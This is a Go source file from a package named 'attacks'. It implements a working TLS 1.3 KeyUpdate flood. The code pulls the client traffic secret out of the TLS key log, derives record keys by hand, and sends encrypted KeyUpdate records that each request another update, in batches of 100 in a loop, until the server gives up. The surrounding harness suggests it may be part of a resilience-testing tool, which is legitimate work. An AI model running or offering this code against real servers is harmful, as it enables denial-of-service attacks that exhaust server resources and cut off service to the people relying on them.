package attacks

import (
	"crypto/aes"
	"crypto/cipher"
	"crypto/hkdf"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/tls"
	"encoding/hex"
	"fmt"
	"hash"
	"io"
	"strings"
	"sync"
	"time"
)

// keyLog keeps the secret of a client's records.
type keyLog struct {
	mu     sync.Mutex
	secret []byte
}

func (k *keyLog) Write(p []byte) (int, error) {
	fields := strings.Fields(string(p))
	if len(fields) == 3 && fields[0] == "CLIENT_TRAFFIC_SECRET_0" {
		secret, err := hex.DecodeString(fields[2])
		if err != nil {
			return 0, err
		}
		k.mu.Lock()
		defer k.mu.Unlock()
		k.secret = secret
	}
	return len(p), nil
}

// records writes the records of a TLS 1.3 client from its first one after the handshake (RFC 8446, 5.2).
type records struct {
	hash     func() hash.Hash
	keySize  int
	secret   []byte
	aead     cipher.AEAD
	iv       []byte
	sequence uint64
}

func newRecords(suite uint16, secret []byte) (*records, error) {
	r := &records{hash: sha256.New, keySize: 16, secret: secret}
	switch suite {
	case tls.TLS_AES_128_GCM_SHA256:
	case tls.TLS_AES_256_GCM_SHA384:
		r.hash, r.keySize = sha512.New384, 32
	default:
		return nil, fmt.Errorf("records of %s are not written here", tls.CipherSuiteName(suite))
	}
	return r, r.derive()
}

// expand is HKDF-Expand-Label without a context (RFC 8446, 7.1).
func (r *records) expand(label string, n int) ([]byte, error) {
	label = "tls13 " + label
	info := append([]byte{byte(n >> 8), byte(n), byte(len(label))}, label...)
	return hkdf.Expand(r.hash, r.secret, string(append(info, 0)), n)
}

func (r *records) derive() error {
	key, err := r.expand("key", r.keySize)
	if err != nil {
		return err
	}
	if r.iv, err = r.expand("iv", 12); err != nil {
		return err
	}
	block, err := aes.NewCipher(key)
	if err != nil {
		return err
	}
	r.sequence = 0
	r.aead, err = cipher.NewGCM(block)
	return err
}

// keyUpdate appends a KeyUpdate that requests another one, after which the next keys are used.
func (r *records) keyUpdate(to []byte) ([]byte, error) {
	const handshake = 22
	plain := []byte{24, 0, 0, 1, 1, handshake}
	nonce := append([]byte(nil), r.iv...)
	for i := range 8 {
		nonce[11-i] ^= byte(r.sequence >> (8 * i))
	}
	head := []byte{23, 3, 3, 0, byte(len(plain) + r.aead.Overhead())}
	to = append(to, head...)
	to = r.aead.Seal(to, nonce, plain, head)
	var err error
	if r.secret, err = r.expand("traffic upd", len(r.secret)); err != nil {
		return nil, err
	}
	return to, r.derive()
}

// keyUpdates floods connections with KeyUpdates.
func keyUpdates(a *attackRun) {
	a.again(2, func() error {
		var log keyLog
		c, err := a.dialWith("h2", func(c *tls.Config) { c.KeyLogWriter, c.MinVersion = &log, tls.VersionTLS13 })
		if err != nil {
			return err
		}
		raw := c.NetConn()
		defer a.close(raw)
		r, err := newRecords(c.ConnectionState().CipherSuite, log.secret)
		if err != nil {
			a.fault("%v", err)
			return nil
		}
		reading := make(chan struct{})
		go func() { // responses are discarded
			_, _ = io.Copy(io.Discard, raw)
			close(reading)
		}()
		var n int64
		for !a.over() {
			var out []byte
			for range 100 {
				if out, err = r.keyUpdate(out); err != nil {
					a.fault("%v", err)
					return nil
				}
			}
			_ = raw.SetWriteDeadline(time.Now().Add(time.Second))
			written, err := raw.Write(out)
			if err != nil {
				a.came("ended: %s", brief(err))
				break
			}
			a.sent(100, written)
			n += 100
			select {
			case <-reading:
				a.came("ended: closed")
				a.mostOf(n)
				return nil
			default:
			}
		}
		a.mostOf(n)
		return nil
	})
}
